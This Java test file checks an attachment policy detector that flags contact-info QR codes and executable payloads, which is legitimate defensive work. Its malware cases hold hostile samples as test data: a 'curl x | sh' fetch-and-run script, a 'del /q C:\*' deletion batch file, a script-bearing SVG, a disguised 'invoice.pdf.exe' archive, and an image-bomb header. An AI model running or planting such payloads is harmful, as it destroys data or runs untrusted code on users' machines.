package dev.parley.core.policy;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.zxing.BarcodeFormat;
import com.google.zxing.client.j2se.MatrixToImageWriter;
import com.google.zxing.qrcode.QRCodeWriter;
import dev.parley.core.support.SharedCorpus;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class AttachmentDetectorTest {
    private static final PolicyChecker CHECKER = PolicyChecker.create(PolicyConfig.defaults());

    private static List<String> kindsOf(byte[] bytes) {
        CheckRequest request = new CheckRequest(
                "see attached", true, null, List.of(new Attachment("photo.png", bytes)), null, List.of(), null);
        return CHECKER.check(request).violations().stream()
                .map(v -> v.rule().id() + "/" + v.kind())
                .toList();
    }

    private static byte[] qrPng(String text) throws Exception {
        BufferedImage image =
                MatrixToImageWriter.toBufferedImage(new QRCodeWriter().encode(text, BarcodeFormat.QR_CODE, 300, 300));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ImageIO.write(image, "png", out);
        return out.toByteArray();
    }

    @ParameterizedTest
    @CsvSource({
        "IMG_4187.png, off_platform_contact/qr_code",
        "IMG_4194.jpg, off_platform_contact/qr_code",
        "IMG_4201.png, off_platform_contact/qr_code",
        "IMG_4215.png, off_platform_contact/qr_code",
        "IMG_4229.png, prohibited_use/malware"
    })
    void corpusImagesWithContactQrCodesOrExecutableBytesAreFound(String file, String expected) throws IOException {
        byte[] bytes = Files.readAllBytes(SharedCorpus.dir().resolve("images").resolve(file));
        assertThat(kindsOf(bytes)).containsExactly(expected);
    }

    @ParameterizedTest
    @CsvSource({"IMG_4208.png", "IMG_4222.jpg"})
    void aPlatformLinkQrAndAnOrdinaryPhotoAreClean(String file) throws IOException {
        byte[] bytes = Files.readAllBytes(SharedCorpus.dir().resolve("images").resolve(file));
        assertThat(kindsOf(bytes)).isEmpty();
    }

    @Test
    void qrCodesAreJudgedLikeText() throws Exception {
        assertThat(kindsOf(qrPng("https://wa.me/14155550199"))).containsExactly("off_platform_contact/qr_code");
        assertThat(kindsOf(qrPng("call me +66 81 234 5678"))).containsExactly("off_platform_contact/qr_code");
        assertThat(kindsOf(qrPng("Thank you for shopping with us!"))).isEmpty();
        assertThat(kindsOf(qrPng("https://shop.tiktok.com/view/product/1729381234567890123")))
                .isEmpty();
    }

    @Test
    void executablesAreRecognisedByTheirBytesWhateverTheirName() throws IOException {
        byte[] pe = new byte[128];
        pe[0] = 'M';
        pe[1] = 'Z';
        assertThat(kindsOf(pe)).containsExactly("prohibited_use/malware");
        assertThat(kindsOf(new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1, 0})).containsExactly("prohibited_use/malware");
        assertThat(kindsOf(new byte[] {(byte) 0xCF, (byte) 0xFA, (byte) 0xED, (byte) 0xFE, 7, 0, 0, 1}))
                .containsExactly("prohibited_use/malware");
        assertThat(kindsOf("#!/bin/sh\ncurl x | sh\n".getBytes(StandardCharsets.UTF_8)))
                .containsExactly("prohibited_use/malware");
        assertThat(kindsOf("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
                        .getBytes(StandardCharsets.UTF_8)))
                .containsExactly("prohibited_use/malware");
        assertThat(kindsOf("@echo off\r\ndel /q C:\\*\r\n".getBytes(StandardCharsets.UTF_8)))
                .containsExactly("prohibited_use/malware");
        assertThat(kindsOf(zip("invoice.pdf.exe", new byte[] {'M', 'Z'}))).containsExactly("prohibited_use/malware");
        assertThat(kindsOf(zip("META-INF/MANIFEST.MF", "Main-Class: a.B\n".getBytes(StandardCharsets.UTF_8))))
                .containsExactly("prohibited_use/malware");
        byte[] lnk = {0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0};
        assertThat(kindsOf(lnk)).containsExactly("prohibited_use/malware");
    }

    @Test
    void harmlessFilesAreNotMalware() throws IOException {
        assertThat(kindsOf("Invoice 2024-05 total 29.99".getBytes(StandardCharsets.UTF_8)))
                .isEmpty();
        assertThat(kindsOf(zip("photos/1.jpg", new byte[] {1, 2, 3}))).isEmpty();
        assertThat(kindsOf("%PDF-1.7\n1 0 obj << /Type /Catalog >>".getBytes(StandardCharsets.ISO_8859_1)))
                .isEmpty();
    }

    @Test
    void anImageDeclaringEnormousDimensionsIsNotDecoded() {
        byte[] bomb = pngHeader(100_000, 100_000);
        assertThat(QrCodes.read(bomb)).isNull();
        assertThat(kindsOf(bomb)).isEmpty();
    }

    @Test
    void truncatedMalformedAndRandomBytesNeverThrow() throws Exception {
        byte[] png = qrPng("https://wa.me/14155550199");
        for (int cut : new int[] {0, 1, 8, 16, 33, 60, png.length / 2, png.length - 1}) {
            assertThat(kindsOf(Arrays.copyOf(png, cut))).doesNotContain("prohibited_use/malware");
        }
        byte[] jpeg = Files.readAllBytes(SharedCorpus.dir().resolve("images/IMG_4194.jpg"));
        assertThat(kindsOf(Arrays.copyOf(jpeg, jpeg.length / 3))).doesNotContain("prohibited_use/malware");
        Random random = new Random(42);
        for (int i = 0; i < 200; i++) {
            byte[] bytes = new byte[random.nextInt(4096)];
            random.nextBytes(bytes);
            kindsOf(bytes);
        }
        byte[] corruptZip = zip("a.txt", new byte[1000]);
        corruptZip[corruptZip.length / 2] ^= 0x55;
        kindsOf(corruptZip);
    }

    private static byte[] zip(String name, byte[] content) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry(name));
            zip.write(content);
            zip.closeEntry();
        }
        return out.toByteArray();
    }

    /** A PNG signature and a valid IHDR chunk declaring the given size, with no image data. */
    private static byte[] pngHeader(int width, int height) {
        ByteBuffer ihdr = ByteBuffer.allocate(17);
        ihdr.put("IHDR".getBytes(StandardCharsets.US_ASCII)).putInt(width).putInt(height);
        ihdr.put((byte) 8).put((byte) 2).put((byte) 0).put((byte) 0).put((byte) 0);
        CRC32 crc = new CRC32();
        crc.update(ihdr.array());
        ByteBuffer png = ByteBuffer.allocate(8 + 4 + 17 + 4);
        png.put(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
        png.putInt(13).put(ihdr.array()).putInt((int) crc.getValue());
        return png.array();
    }
}
